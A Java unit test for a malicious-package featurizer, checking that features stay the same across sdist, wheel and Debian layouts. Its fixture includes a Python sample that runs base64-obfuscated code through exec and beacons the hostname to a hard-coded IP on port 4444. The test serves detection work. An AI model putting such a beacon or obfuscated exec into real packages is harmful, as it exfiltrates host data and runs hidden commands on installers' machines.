package dev.fang.featurize.features;

import static dev.fang.featurize.features.Fixtures.lines;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * The layout trap: the same code as a source archive, a built archive and an unpacked system tree must give
 * the same import-time and package features, whatever packaging metadata sits around it.
 */
class LayoutInvarianceTest {

    static final PackageFeaturizer FEATURIZER = new PackageFeaturizer();

    static Map<String, String> code() {
        Map<String, String> m = new LinkedHashMap<>();
        m.put("demo/__init__.py", lines(
                "import os, base64, socket, platform",
                "from .util import helper",
                "HOST = '185.62.13.77'",
                "exec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo='))",
                "def beacon():",
                "    s = socket.create_connection((HOST, 4444))",
                "    s.sendall(platform.node().encode())"));
        m.put("demo/util.py", lines(
                "import json",
                "def helper(p):",
                "    return json.loads(p)"));
        m.put("demo/data/tool.sh", "#!/bin/sh\necho hi\n");
        m.put("demo/native.so", "\u007fELF");
        return m;
    }

    static PackageContents sdist() {
        Map<String, String> m = new LinkedHashMap<>(Fixtures.under("demo-1.0/", code()));
        m.put("demo-1.0/setup.py", lines("from setuptools import setup", "setup(name='demo', version='1.0')"));
        m.put("demo-1.0/setup.cfg", lines("[metadata]", "name = demo"));
        m.put("demo-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: demo\n");
        m.put("demo-1.0/demo.egg-info/PKG-INFO", "Metadata-Version: 2.1\nName: demo\n");
        m.put("demo-1.0/demo.egg-info/SOURCES.txt", "demo/__init__.py\n");
        m.put("demo-1.0/demo.egg-info/top_level.txt", "demo\n");
        m.put("demo-1.0/README.md", "# demo\n");
        return Fixtures.pkg(m);
    }

    static PackageContents wheel() {
        Map<String, String> m = new LinkedHashMap<>(code());
        m.put("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\n");
        m.put("demo-1.0.dist-info/RECORD", "demo/__init__.py,sha256=x,1\n");
        m.put("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n");
        m.put("demo-1.0.dist-info/top_level.txt", "demo\n");
        return Fixtures.pkg(m);
    }

    static PackageContents debianTree() {
        Map<String, String> m = new LinkedHashMap<>(Fixtures.under("usr/lib/python3/dist-packages/", code()));
        m.put("usr/lib/python3/dist-packages/demo-1.0.egg-info/PKG-INFO", "Metadata-Version: 2.1\nName: demo\n");
        m.put("usr/lib/python3/dist-packages/demo-1.0.egg-info/top_level.txt", "demo\n");
        m.put("usr/share/doc/python3-demo/copyright", "MIT\n");
        m.put("usr/share/doc/python3-demo/changelog.Debian.gz", "x");
        return Fixtures.pkg(m);
    }

    @Test
    void importTimeAndPackageFeaturesDoNotDependOnTheLayout() {
        FeatureResult s = FEATURIZER.featurize(sdist());
        FeatureResult w = FEATURIZER.featurize(wheel());
        FeatureResult d = FEATURIZER.featurize(debianTree());
        assertThat(s.partial()).isFalse();
        int compared = 0;
        for (Feature f : FeatureCatalogue.features()) {
            if (f.scope() == Scope.INSTALL) {
                continue;
            }
            compared++;
            assertThat(w.value(f.name())).as("%s wheel vs sdist", f.name()).isEqualTo(s.value(f.name()));
            assertThat(d.value(f.name())).as("%s system tree vs sdist", f.name()).isEqualTo(s.value(f.name()));
        }
        assertThat(compared).isGreaterThan(150);
        // ... and the code was really seen
        assertThat(s.value("import_dec_exec_apis")).isPositive();
        assertThat(s.value("import_ip_public_distinct")).isEqualTo(1);
        assertThat(s.value("pkg_ext_sh")).isEqualTo(1);
        assertThat(s.value("pkg_ext_py")).isEqualTo(2);
    }

    @Test
    void aPlainSetupScriptLeavesTheRiskyInstallFeaturesAtZero() {
        FeatureResult s = FEATURIZER.featurize(sdist());
        for (Family fam : new Family[] {Family.HOOKS, Family.BUILD_CONFIG, Family.BEHAVIOURS, Family.SUSPICIOUS_STRINGS,
            Family.DECODED, Family.API_OBFUSCATION, Family.OBFUSCATION}) {
            for (Feature f : FeatureCatalogue.family(fam)) {
                if (f.scope() == Scope.INSTALL) {
                    assertThat(s.value(f.name())).as(f.name()).isZero();
                }
            }
        }
        assertThat(s.value("install_parse_quality_min")).isEqualTo(1.0);
    }
}
